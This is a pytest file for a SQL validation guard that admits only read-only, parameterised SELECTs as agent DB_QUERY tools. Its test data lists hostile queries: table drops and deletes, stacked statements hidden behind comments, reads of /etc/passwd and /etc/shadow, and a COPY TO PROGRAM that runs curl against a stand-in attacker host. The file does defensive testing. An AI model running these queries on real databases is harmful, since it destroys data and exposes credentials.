"""DB_QUERY save-time checks: one read-only SELECT with named parameters, or a 422 naming the
rule. Each hostile configuration below is refused by `validate_tool_definition`, the check the
admin API runs on create and patch."""

from __future__ import annotations

from typing import Any

import pytest

from agenthub.errors import ValidationFailedError
from agenthub.tools import validate_tool_definition
from agenthub.tools.sql_guard import SqlRefusedError, guard_select

NO_ARGS: dict[str, Any] = {"type": "object", "properties": {}}
MST_ARGS: dict[str, Any] = {
    "type": "object",
    "properties": {"mst": {"type": "string", "pattern": "^[0-9]{10}$"}},
    "required": ["mst"],
}

# (rule, sql): every one must be refused with that rule.
HOSTILE: list[tuple[str, str]] = [
    # writes and DDL
    ("select_only", "INSERT INTO customers (name) VALUES ('x')"),
    ("select_only", "UPDATE invoices SET paid = amount"),
    ("select_only", "DELETE FROM invoices"),
    ("select_only", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"),
    ("select_only", "DROP TABLE customers"),
    ("select_only", "CREATE TABLE stolen AS SELECT * FROM customers"),
    ("select_only", "ALTER ROLE reporting SUPERUSER"),
    ("select_only", "TRUNCATE invoices"),
    ("select_only", "GRANT ALL ON customers TO PUBLIC"),
    ("select_only", "COPY customers TO '/tmp/customers.csv'"),
    ("select_only", "COPY (SELECT 1) TO PROGRAM 'curl evil.example'"),
    ("select_only", "SET statement_timeout = 0"),
    ("select_only", "SET TRANSACTION READ WRITE"),
    ("select_only", "DO $$BEGIN DELETE FROM invoices; END$$"),
    ("select_only", "CALL purge_invoices()"),
    ("select_only", "EXPLAIN ANALYZE DELETE FROM invoices"),
    ("select_only", "PREPARE wipe AS DELETE FROM invoices"),
    ("select_only", "VALUES (1), (2)"),
    ("select_only", "LOCK TABLE invoices"),
    ("select_only", "VACUUM FULL"),
    ("select_only", "BEGIN"),
    # two statements, including one hidden behind a comment
    ("single_statement", "SELECT 1; DELETE FROM invoices"),
    ("single_statement", "SELECT 1 /* harmless */; DROP TABLE customers"),
    ("single_statement", "SELECT 1 -- just a comment\n; UPDATE invoices SET paid = 0"),
    ("single_statement", "SELECT name FROM customers;\nSELECT pg_sleep(10)"),
    # data-modifying CTEs
    ("no_writes", "WITH gone AS (DELETE FROM invoices RETURNING *) SELECT count(*) FROM gone"),
    ("no_writes", "WITH x AS (UPDATE invoices SET paid = 0 RETURNING id) SELECT * FROM x"),
    ("no_writes", "WITH x AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) SELECT 1"),
    # SELECT ... INTO and locking clauses
    ("no_select_into", "SELECT * INTO stolen FROM customers"),
    ("no_select_into", "SELECT name INTO TEMPORARY t FROM customers"),
    ("no_locking", "SELECT * FROM invoices FOR UPDATE"),
    ("no_locking", "SELECT * FROM invoices FOR SHARE"),
    ("no_locking", "SELECT * FROM invoices FOR NO KEY UPDATE SKIP LOCKED"),
    ("no_locking", "SELECT * FROM (SELECT * FROM invoices FOR UPDATE) AS i"),
    ("no_locking", "SELECT 1 UNION ALL (SELECT 1 FROM invoices FOR KEY SHARE)"),
    # dangerous functions, however they are spelled
    ("no_dangerous_function", "SELECT pg_sleep(60)"),
    ("no_dangerous_function", "SELECT pg_catalog.pg_sleep(60)"),
    ("no_dangerous_function", "SELECT PG_SLEEP_FOR('1 minute')"),
    ("no_dangerous_function", 'SELECT "pg_sleep"(60)'),
    ("no_dangerous_function", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)"),
    ("no_dangerous_function", "SELECT dblink_exec('dbname=x', 'DELETE FROM invoices')"),
    ("no_dangerous_function", "SELECT pg_read_file('/etc/passwd')"),
    ("no_dangerous_function", "SELECT pg_read_binary_file('/etc/shadow')"),
    ("no_dangerous_function", "SELECT * FROM pg_ls_dir('/')"),
    ("no_dangerous_function", "SELECT lo_import('/etc/passwd')"),
    ("no_dangerous_function", "SELECT lo_export(16400, '/tmp/x')"),
    ("no_dangerous_function", "SELECT set_config('default_transaction_read_only', 'off', false)"),
    ("no_dangerous_function", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
    ("no_dangerous_function", "SELECT pg_cancel_backend(1)"),
    ("no_dangerous_function", "SELECT query_to_xml('DELETE FROM invoices RETURNING 1', 1, 1, '')"),
    ("no_dangerous_function", "SELECT nextval('invoices_id_seq')"),
    ("no_dangerous_function", "SELECT pg_advisory_lock(1)"),
    ("no_dangerous_function", "SELECT pg_notify('channel', 'payload')"),
    ("no_dangerous_function", "SELECT name FROM customers WHERE id IN (SELECT lo_unlink(1))"),
    ("no_dangerous_function", "SELECT current_setting('data_directory')"),
    # parameters the driver could not bind by name
    ("named_parameters", "SELECT * FROM customers WHERE mst = $1"),
    ("named_parameters", "SELECT * FROM customers WHERE mst = %s"),
    ("named_parameters", "SELECT * FROM customers WHERE mst = ?"),
    # not SQL at all
    ("syntax", "SELEC name FROM customers WHERE"),
    ("syntax", "   "),
]


@pytest.mark.parametrize(("rule", "sql"), HOSTILE, ids=[f"{r}:{s[:40]}" for r, s in HOSTILE])
def test_a_hostile_query_is_refused_with_a_422_naming_the_rule(rule: str, sql: str) -> None:
    with pytest.raises(ValidationFailedError) as refused:
        validate_tool_definition(
            name="report",
            tool_type="DB_QUERY",
            input_schema=NO_ARGS,
            config={"data_source": "analytics", "sql": sql},
        )

    assert refused.value.code == "validation_error"  # 422
    assert f"({rule})" in refused.value.message
    assert refused.value.details[0]["field"] == "config.sql"
    assert refused.value.details[0]["rule"] == rule


def test_at_least_25_hostile_configurations_are_covered() -> None:
    assert len(HOSTILE) >= 25
    assert {rule for rule, _ in HOSTILE} == {
        "select_only",
        "single_statement",
        "no_writes",
        "no_select_into",
        "no_locking",
        "no_dangerous_function",
        "named_parameters",
        "syntax",
    }


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT name, mst FROM customers WHERE mst = :mst",
        "SELECT c.name, sum(i.amount) AS total FROM customers c JOIN invoices i "
        "ON i.customer_id = c.id WHERE c.mst = :mst GROUP BY c.name",
        "WITH open AS (SELECT * FROM invoices WHERE paid < amount) "
        "SELECT count(*) FROM open JOIN customers c ON c.mst = :mst",
        "SELECT name FROM customers WHERE mst = :mst UNION SELECT name FROM suppliers "
        "WHERE mst = :mst",
        "SELECT to_char(issued_on, 'YYYY-MM') AS month, pg_typeof(amount) FROM invoices "
        "WHERE note LIKE '%:mst%' OR mst = :mst",
    ],
)
def test_a_read_only_select_with_its_parameters_is_accepted(sql: str) -> None:
    validate_tool_definition(
        name="report",
        tool_type="DB_QUERY",
        input_schema=MST_ARGS,
        config={"data_source": "analytics", "sql": sql, "max_rows": 50, "timeout_s": 2},
    )


def test_the_query_that_runs_is_the_checked_tree_with_driver_placeholders() -> None:
    # GIVEN a query with a comment, a literal holding '%' and ':' and a parameter used twice
    query = guard_select(
        "SELECT name /* ; DROP TABLE x */ FROM customers "
        "WHERE note LIKE '50% :mst' AND (mst = :mst OR parent = :mst)"
    )

    # THEN the comment is gone, '%' is escaped for psycopg, the literal is untouched and only
    # the real parameter became a placeholder
    assert "DROP" not in query.sql
    assert "'50%% :mst'" in query.sql
    assert query.sql.count("%(mst)s") == 2
    assert query.parameters == ("mst",)


@pytest.mark.parametrize(
    ("schema", "sql", "message"),
    [
        (NO_ARGS, "SELECT * FROM customers WHERE mst = :mst", ":mst is not a property"),
        (MST_ARGS, "SELECT * FROM customers", "'mst' is not used by the SQL"),
        (
            {"type": "object", "properties": {"mst": {"type": "object"}}},
            "SELECT * FROM customers WHERE mst = :mst",
            ":mst must be a string, number, boolean or a list of them",
        ),
    ],
)
def test_parameters_must_match_the_input_schema(
    schema: dict[str, Any], sql: str, message: str
) -> None:
    with pytest.raises(ValidationFailedError) as refused:
        validate_tool_definition(
            name="report",
            tool_type="DB_QUERY",
            input_schema=schema,
            config={"data_source": "analytics", "sql": sql},
        )

    assert "(parameters)" in refused.value.message
    assert any(message in d["message"] for d in refused.value.details)


@pytest.mark.parametrize(
    ("config", "field"),
    [
        ({"sql": "SELECT 1"}, "config.data_source"),
        ({"data_source": "Analytics!", "sql": "SELECT 1"}, "config.data_source"),
        ({"data_source": "analytics", "sql": "SELECT 1", "max_rows": 0}, "config.max_rows"),
        ({"data_source": "analytics", "sql": "SELECT 1", "max_rows": 5000}, "config.max_rows"),
        ({"data_source": "analytics", "sql": "SELECT 1", "timeout_s": 120}, "config.timeout_s"),
        ({"data_source": "analytics", "sql": "SELECT 1", "url": "http://x"}, "config.url"),
        (
            {"data_source": "analytics", "sql": "SELECT 1", "presentation": "pie"},
            "config.presentation",
        ),
    ],
)
def test_a_malformed_config_names_its_field(config: dict[str, Any], field: str) -> None:
    with pytest.raises(ValidationFailedError) as refused:
        validate_tool_definition(
            name="report", tool_type="DB_QUERY", input_schema=NO_ARGS, config=config
        )

    assert refused.value.details[0]["field"] == field


def test_a_refusal_is_a_validation_error_subclass() -> None:
    assert issubclass(SqlRefusedError, ValidationFailedError)
